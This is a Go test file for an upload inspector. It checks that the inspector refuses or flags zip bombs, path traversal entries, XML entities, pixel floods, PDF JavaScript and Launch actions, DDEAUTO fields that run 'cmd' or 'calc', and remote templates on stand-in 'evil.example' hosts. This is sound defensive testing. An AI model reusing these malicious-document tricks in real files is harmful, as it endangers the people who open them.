package inspect_test

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/zlib"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"image"
	"image/png"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"voordeur/internal/inspect"
)

const (
	docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
	odt  = "application/vnd.oasis.opendocument.text"
	zipf = "application/zip"
	pdf  = "application/pdf"
)

func file(t testing.TB, data []byte, media string, rules inspect.Rules) inspect.Report {
	t.Helper()
	r, err := inspect.File(context.Background(), bytes.NewReader(data), int64(len(data)), media, rules)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// pairs are names and contents.
func zipped(t testing.TB, pairs ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i := 0; i+1 < len(pairs); i += 2 {
		f, err := w.Create(pairs[i])
		if err == nil {
			_, err = io.WriteString(f, pairs[i+1])
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// raw makes an archive of one entry that says of itself what it likes.
func raw(t testing.TB, h zip.FileHeader, data []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, err := w.CreateRaw(&h)
	if err == nil {
		_, err = f.Write(data)
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func deflated(s string) []byte {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.BestCompression)
	_, _ = io.WriteString(w, s)
	_ = w.Close()
	return b.Bytes()
}

func zlibbed(s string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	_, _ = io.WriteString(w, s)
	_ = w.Close()
	return b.String()
}

// overlapping is an archive of many entries that share the same bytes, as the best zip bombs do: the
// list of contents names one entry again and again.
func overlapping(t testing.TB) []byte {
	t.Helper()
	one := zipped(t, "0", strings.Repeat("a", 1000))
	at := bytes.Index(one, []byte("PK\x01\x02"))
	end := bytes.Index(one, []byte("PK\x05\x06"))
	var b bytes.Buffer
	b.Write(one[:at])
	for n := range 9 {
		entry := slices.Clone(one[at:end])
		entry[46] = byte('0' + n)
		b.Write(entry)
	}
	tail := slices.Clone(one[end:])
	binary.LittleEndian.PutUint16(tail[8:], 9)
	binary.LittleEndian.PutUint16(tail[10:], 9)
	binary.LittleEndian.PutUint32(tail[12:], uint32(9*(end-at)))
	b.Write(tail)
	return b.Bytes()
}

// liar unpacks to more than it says.
func liar(t testing.TB) []byte {
	data := deflated(strings.Repeat("a", 100_000))
	return raw(t, zip.FileHeader{Name: "a", Method: zip.Deflate, CompressedSize64: uint64(len(data)), UncompressedSize64: 10}, data)
}

func nest(t testing.TB, depth int) []byte {
	t.Helper()
	b := []byte("akte")
	name := "akte.txt"
	for range depth {
		b, name = zipped(t, name, string(b)), "in.zip"
	}
	return b
}

// pngOf is the head of an image of a size.
func pngOf(t testing.TB, width, height uint32) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewGray(image.Rect(0, 0, 1, 1))); err != nil {
		t.Fatal(err)
	}
	out := b.Bytes()
	binary.BigEndian.PutUint32(out[16:], width)
	binary.BigEndian.PutUint32(out[20:], height)
	binary.BigEndian.PutUint32(out[29:], crc(out[12:29]))
	return out
}

func crc(b []byte) uint32 {
	c := ^uint32(0)
	for _, x := range b {
		c ^= uint32(x)
		for range 8 {
			c = c>>1 ^ 0xedb88320&-(c&1)
		}
	}
	return ^c
}

func rels(target string) string {
	return `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` + target + `</Relationships>`
}

func many(n int) []string {
	var pairs []string
	for i := range n {
		pairs = append(pairs, fmt.Sprint(i), "")
	}
	return pairs
}

func TestWhatAFileIsRefusedFor(t *testing.T) {
	bomb := zipped(t, "word/document.xml", strings.Repeat("\x00", 120_000_000))
	for name, c := range map[string]struct {
		data  []byte
		media string
		want  string
	}{
		"plain":             {zipped(t, "a.txt", "akte", "map/b.txt", "b"), zipf, ""},
		"empty":             {zipped(t), zipf, ""},
		"much text":         {zipped(t, "a.txt", strings.Repeat("akte ", 1_000_000)), zipf, ""},
		"bomb":              {bomb, zipf, inspect.Bomb},
		"bomb in a docx":    {bomb, docx, inspect.Bomb},
		"bomb in a zip":     {zipped(t, "a.zip", string(bomb)), zipf, inspect.Bomb},
		"many":              {zipped(t, many(10_001)...), zipf, inspect.Bomb},
		"almost too many":   {zipped(t, many(10_000)...), zipf, ""},
		"very many":         {zipped(t, many(100_000)...), zipf, inspect.Bomb},
		"overlapping":       {overlapping(t), zipf, inspect.Bomb},
		"deep":              {nest(t, 4), zipf, inspect.Nested},
		"not so deep":       {nest(t, 3), zipf, ""},
		"up":                {zipped(t, "../a", ""), zipf, inspect.Paths},
		"up within":         {zipped(t, "a/../../b", ""), zipf, inspect.Paths},
		"up, backslash":     {zipped(t, `a\..\..\b`, ""), zipf, inspect.Paths},
		"root":              {zipped(t, "/etc/passwd", ""), zipf, inspect.Paths},
		"root, backslash":   {zipped(t, `\Windows\x`, ""), zipf, inspect.Paths},
		"drive":             {zipped(t, `C:\x`, ""), zipf, inspect.Paths},
		"line end":          {zipped(t, "a\r\nb", ""), zipf, inspect.Paths},
		"dots that stay":    {zipped(t, "a..b/...c", ""), zipf, ""},
		"twice":             {zipped(t, "a", "1", "a", "2"), zipf, inspect.Forged},
		"more than it says": {liar(t), zipf, inspect.Forged},
		"stored lie":        {raw(t, zip.FileHeader{Name: "a", Method: zip.Store, UncompressedSize64: 10}, []byte("akte")), zipf, inspect.Forged},
		"link":              {raw(t, link(), []byte("/etc")), zipf, inspect.Paths},
		"entities":          {zipped(t, "word/document.xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a/>`), docx, inspect.Entities},
		"entities far in":   {zipped(t, "a.xml", "<?xml version='1.0'?><!--"+strings.Repeat(" ", 2<<20)+"--><!DOCTYPE a [<!ENTITY b 'c'>]><a/>"), docx, inspect.Entities},
		"entities, UTF-16":  {[]byte("\xff\xfe<\x00!\x00E\x00N\x00T\x00I\x00T\x00Y\x00"), "application/xml", inspect.Entities},
		"xml":               {[]byte(`<?xml version="1.0"?><auditfile>&lt;!ENTITY</auditfile>`), "application/xml", ""},
		"flood":             {pngOf(t, 100_000, 100_000), "image/png", inspect.Pixels},
		"flood of a phone":  {heic(512, 100, 100_000, 100_000), "image/heic", inspect.Pixels},
		"large photo":       {pngOf(t, 20_000, 20_000), "image/png", ""},
	} {
		if got := file(t, c.data, c.media, inspect.Rules{}); got.Refusal != c.want {
			t.Errorf("%s: %+v, want %q", name, got, c.want)
		}
	}
}

// heic is as much of a HEIC file as tells the sizes of its images.
func heic(sizes ...uint32) []byte {
	b := []byte("\x00\x00\x00\x18ftypheic")
	for i := 0; i+1 < len(sizes); i += 2 {
		b = append(b, "\x00\x00\x00\x14ispe\x00\x00\x00\x00"...)
		b = binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(b, sizes[i]), sizes[i+1])
	}
	return append(b, "\x00\x00\x00\x10mdat"...)
}

func link() zip.FileHeader {
	h := zip.FileHeader{Name: "a", Method: zip.Store, CompressedSize64: 4, UncompressedSize64: 4}
	h.SetMode(0o777 | 1<<27)
	return h
}

func TestWhatStaffAreToldOf(t *testing.T) {
	hyperlink := `<Relationship Type="http://x/hyperlink" Target="https://example.nl" TargetMode="External"/>`
	template := `<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>`
	hidden := "%PDF-1.7\n1 0 obj<</Type/ObjStm/Filter/FlateDecode/N 1/First 4/Length 9>>stream\r\n" + zlibbed("1 0 <</S/JavaScript/JS(x)>>") + "\nendstream endobj"
	for name, c := range map[string]struct {
		data  []byte
		media string
		want  []string
	}{
		"quiet pdf":       {[]byte("%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj"), pdf, nil},
		"script":          {[]byte("%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"), pdf, []string{inspect.Script}},
		"escaped":         {[]byte("%PDF-1.7\n1 0 obj<</S/J#61va#53cript>>endobj"), pdf, []string{inspect.Script}},
		"launch":          {[]byte("%PDF-1.7\n<</S /Launch /F (cmd.exe)>>"), pdf, []string{inspect.Launch}},
		"files":           {[]byte("%PDF-1.7\n<</Names<</EmbeddedFiles 3 0 R>>>>"), pdf, []string{inspect.Files}},
		"opening":         {[]byte("%PDF-1.7\n<</OpenAction 3 0 R/AA<</O 4 0 R>>>>"), pdf, []string{inspect.Action}},
		"encrypted":       {[]byte("%PDF-1.7\ntrailer<</Encrypt 3 0 R>>"), pdf, []string{inspect.Encrypted}},
		"packed":          {[]byte(hidden), pdf, []string{inspect.Script}},
		"after a stream":  {[]byte(hidden + "\n2 0 obj<</S/Launch>>endobj"), pdf, []string{inspect.Launch, inspect.Script}},
		"noise":           {[]byte("%PDF-1.7\n1 0 obj<</Length 9>>stream\n x/JS /AA y\nendstream endobj"), pdf, nil},
		"said in a text":  {[]byte("%PDF-1.7\n1 0 obj (JavaScript en Launch) endobj"), pdf, nil},
		"broken packing":  {[]byte("%PDF-1.7\n1 0 obj<</Type/ObjStm>>stream\nxxxx\nendstream endobj"), pdf, []string{inspect.Uninspected}},
		"macros":          {zipped(t, "word/vbaProject.bin", "x"), docx, []string{inspect.Macros}},
		"odt macros":      {zipped(t, "Basic/script-lc.xml", "x"), odt, []string{inspect.Macros}},
		"old macros":      {append([]byte("\xd0\xcf\x11\xe0"), []byte(strings.Repeat("x", 65_530)+"_\x00V\x00B\x00A\x00_\x00P\x00R\x00O\x00J\x00E\x00C\x00T\x00")...), "application/msword", []string{inspect.Macros}},
		"old and quiet":   {append([]byte("\xd0\xcf\x11\xe0"), make([]byte, 200_000)...), "application/msword", nil},
		"object":          {[]byte(`{\rtf1{\object\objemb{\*\objdata 01}}}`), "application/rtf", []string{inspect.Files}},
		"link":            {zipped(t, "word/_rels/document.xml.rels", rels(hyperlink)), docx, nil},
		"template":        {zipped(t, "word/_rels/settings.xml.rels", rels(hyperlink+template)), docx, []string{inspect.External}},
		"embedded":        {zipped(t, "word/embeddings/oleObject1.bin", "x"), docx, []string{inspect.Files}},
		"docx in a zip":   {zipped(t, "a.docx", string(zipped(t, "word/vbaProject.bin", "x"))), zipf, []string{inspect.Macros}},
		"pdf in a zip":    {zipped(t, "a.pdf", "%PDF-1.7\n<</S/Launch>>"), zipf, []string{inspect.Launch}},
		"program":         {zipped(t, "factuur.pdf.EXE", "MZ"), zipf, []string{inspect.Programs}},
		"web page":        {zipped(t, "a.html", "<script>"), zipf, []string{inspect.Programs}},
		"encrypted entry": {raw(t, zip.FileHeader{Name: "a", Flags: 1, CompressedSize64: 4, UncompressedSize64: 4}, []byte("akte")), zipf, []string{inspect.Encrypted}},
		"unknown method":  {raw(t, zip.FileHeader{Name: "a", Method: 14, CompressedSize64: 4, UncompressedSize64: 4}, []byte("akte")), zipf, []string{inspect.Uninspected}},
		"torn entry":      {raw(t, zip.FileHeader{Name: "a", Method: zip.Deflate, CompressedSize64: 4, UncompressedSize64: 4}, []byte("\xff\xff\xff\xff")), zipf, []string{inspect.Uninspected}},
		"no zip":          {[]byte("PK\x03\x04 and then nothing"), zipf, []string{inspect.Uninspected}},
		"no image":        {[]byte("\x89PNG\r\n\x1a\n"), "image/png", []string{inspect.Uninspected}},
		"photo of a cat":  {heic(4032, 3024), "image/heic", nil},
		"photo of what":   {[]byte("\x00\x00\x00\x18ftypheic"), "image/heic", []string{inspect.Uninspected}},
		"text":            {[]byte("Geachte heer,"), "text/plain", nil},
	} {
		if got := file(t, c.data, c.media, inspect.Rules{}); got.Refusal != "" || !slices.Equal(got.Flags, c.want) {
			t.Errorf("%s: %+v, want %v", name, got, c.want)
		}
	}
}

// What a document of any kind takes from elsewhere when it is opened is noticed; what somebody follows,
// and what is beside it, is not.
func TestWhatADocumentFetches(t *testing.T) {
	word := func(body string) []byte {
		return zipped(t, "word/document.xml", `<w:document xmlns:w="w">`+body+`</w:document>`)
	}
	open := func(body string) []byte {
		return zipped(t, "content.xml", `<office:document xmlns:office="o" xmlns:draw="d" xmlns:text="t" xmlns:z="http://www.w3.org/1999/xlink">`+body+`</office:document>`)
	}
	instr := func(pieces ...string) string {
		return `<w:fldChar type="begin"/><w:instrText>` + strings.Join(pieces, `</w:instrText><w:instrText>`) + `</w:instrText><w:fldChar type="end"/>`
	}
	outside, macros, unknown := []string{inspect.External}, []string{inspect.Macros}, []string{inspect.Uninspected}
	for name, c := range map[string]struct {
		data  []byte
		media string
		want  []string
	}{
		"picture":               {open(`<draw:image z:href="https://evil.example/a.png"/>`), odt, outside},
		"object of a share":     {open(`<draw:object z:href="\\evil.example\a"/>`), odt, outside},
		"section, no scheme":    {open(`<text:section-source z:href="//evil.example/a"/>`), odt, outside},
		"table of a program":    {open(`<office:dde-source/>`), odt, outside},
		"script of the program": {open(`<script:event-listener z:href="vnd.sun.star.script:../../a.py$f"/>`), odt, macros},
		"picture inside":        {open(`<draw:image z:href="Pictures/a.png"/>`), odt, nil},
		"hyperlink":             {open(`<text:a z:href="https://example.nl">x</text:a>`), odt, nil},
		"its own template":      {zipped(t, "meta.xml", `<meta:template xmlns:meta="m" xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="file:///home/a/brief.ott"/>`), odt, nil},
		"dde":                   {word(instr(` DDEAUTO c:\\x "/k calc"`)), docx, outside},
		"dde in pieces":         {word(instr(`D`, `DE `, `excel`)), docx, outside},
		"dde, simple":           {word(`<w:fldSimple w:instr="dde a b"/>`), docx, outside},
		"included":              {word(instr(`INCLUDEPICTURE "http://evil.example/a.png" \d`)), docx, outside},
		"included from inside":  {word(instr(`INCLUDEPICTURE "media/a.png"`)), docx, nil},
		"page number":           {word(instr(`PAGE \* MERGEFORMAT`) + `<w:t>DDE</w:t>`), docx, nil},
		"workbook of a program": {zipped(t, "xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd"/></externalLink>`), docx, outside},
		"UTF-16":                {zipped(t, "content.xml", utf16le(`<d:image xmlns:d="d" xmlns:x="http://www.w3.org/1999/xlink" x:href="http://evil.example"/>`)), odt, outside},
		"rtf template":          {[]byte(`{\rtf1{\*\template http://evil.example/a.dotm}}`), "application/rtf", outside},
		"rtf field":             {[]byte(`{\rtf1{\field{\*\fldinst DDEAUTO cmd}}}`), "application/rtf", outside},
		"no XML":                {zipped(t, "content.xml", "<a><"), odt, unknown},
		"deep":                  {zipped(t, "content.xml", strings.Repeat("<a>", 2000)), odt, unknown},
		"long":                  {zipped(t, "content.xml", "<a>"+strings.Repeat("x", 2<<20)+"</a>"), odt, unknown},
	} {
		if got := file(t, c.data, c.media, inspect.Rules{}); got.Refusal != "" || !slices.Equal(got.Flags, c.want) {
			t.Errorf("%s: %+v, want %v", name, got, c.want)
		}
	}
}

func utf16le(s string) string {
	var b strings.Builder
	for _, r := range s {
		b.WriteRune(r)
		b.WriteByte(0)
	}
	return b.String()
}

// An office decides what happens to macros and to what is fetched from elsewhere.
func TestRulesOfTheOffice(t *testing.T) {
	macros := zipped(t, "word/vbaProject.bin", "x")
	external := zipped(t, "word/_rels/x.rels", rels(`<Relationship Type="http://x/image" Target="http://evil.example/a.png" TargetMode="external"/>`))
	for _, c := range []struct {
		rules            inspect.Rules
		macros, external inspect.Report
	}{
		{inspect.Rules{}, inspect.Report{Flags: []string{inspect.Macros}}, inspect.Report{Flags: []string{inspect.External}}},
		{inspect.Rules{Macros: inspect.Refuse, External: inspect.Allow}, inspect.Report{Refusal: inspect.Macros}, inspect.Report{}},
		{inspect.Rules{Macros: inspect.Allow, External: inspect.Refuse}, inspect.Report{}, inspect.Report{Refusal: inspect.External}},
	} {
		for i, data := range [][]byte{macros, external} {
			want := []inspect.Report{c.macros, c.external}[i]
			if got := file(t, data, docx, c.rules); got.Refusal != want.Refusal || !slices.Equal(got.Flags, want.Flags) {
				t.Errorf("%+v: %+v, want %+v", c.rules, got, want)
			}
		}
	}
}

// A document as Office makes it is not refused, and says nothing.
func TestAnOrdinaryWorkbookIsQuiet(t *testing.T) {
	b, err := excelize.NewFile().WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	if got := file(t, b.Bytes(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", inspect.Rules{Macros: inspect.Refuse, External: inspect.Refuse}); got.Refusal != "" || len(got.Flags) != 0 {
		t.Errorf("%+v", got)
	}
}

// failing is a disk that fails after some bytes.
type failing struct {
	*bytes.Reader
	from int64
}

var errDisk = errors.New("disk")

func (f failing) ReadAt(p []byte, at int64) (int, error) {
	if at+int64(len(p)) > f.from {
		return 0, errDisk
	}
	return f.Reader.ReadAt(p, at)
}

// A disk that fails is no verdict about the file, and neither is a time that is over.
func TestAFileThatCannotBeReadHasNoReport(t *testing.T) {
	data := zipped(t, "a", strings.Repeat("akte", 100_000), "b", strings.Repeat("\x01\x02", 100))
	for _, media := range []string{zipf, pdf, "image/png", "application/xml", "application/msword"} {
		if r, err := inspect.File(context.Background(), failing{bytes.NewReader(data), 10}, int64(len(data)), media, inspect.Rules{}); !errors.Is(err, errDisk) {
			t.Errorf("%s: %+v, %v", media, r, err)
		}
		ctx, cancel := context.WithCancel(context.Background())
		cancel()
		if r, err := inspect.File(ctx, bytes.NewReader(data), int64(len(data)), media, inspect.Rules{}); !errors.Is(err, context.Canceled) {
			t.Errorf("%s: %+v, %v", media, r, err)
		}
	}
}

func fuzz(f *testing.F, media string, seeds ...[]byte) {
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := inspect.File(t.Context(), bytes.NewReader(data), int64(len(data)), media, inspect.Rules{})
		if err != nil || !slices.IsSorted(r.Flags) {
			t.Errorf("%+v, %v", r, err)
		}
	})
}

func FuzzArchive(f *testing.F) {
	fuzz(f, docx, zipped(f, "word/_rels/x.rels", rels(""), "a.zip", string(zipped(f, "b", "c"))), overlapping(f), nest(f, 3))
}

func FuzzPDF(f *testing.F) {
	fuzz(f, pdf, []byte("%PDF-1.7\n1 0 obj<</Type/ObjStm>>stream\n"+zlibbed("/JS#20x")+"\nendstream endobj"), []byte("<</S/J#61vaScript>>"))
}

func FuzzImage(f *testing.F) {
	fuzz(f, "image/tiff", pngOf(f, 2, 2), []byte("II*\x00\x08\x00\x00\x00"), []byte("BM"), []byte("GIF89a"))
}

func FuzzXML(f *testing.F) {
	fuzz(f, "application/xml", []byte(rels(`<Relationship TargetMode="External"/>`)))
}

func FuzzOldOffice(f *testing.F) {
	fuzz(f, "application/msword", []byte("\xd0\xcf\x11\xe0"), []byte(`{\rtf1\objdata`))
}
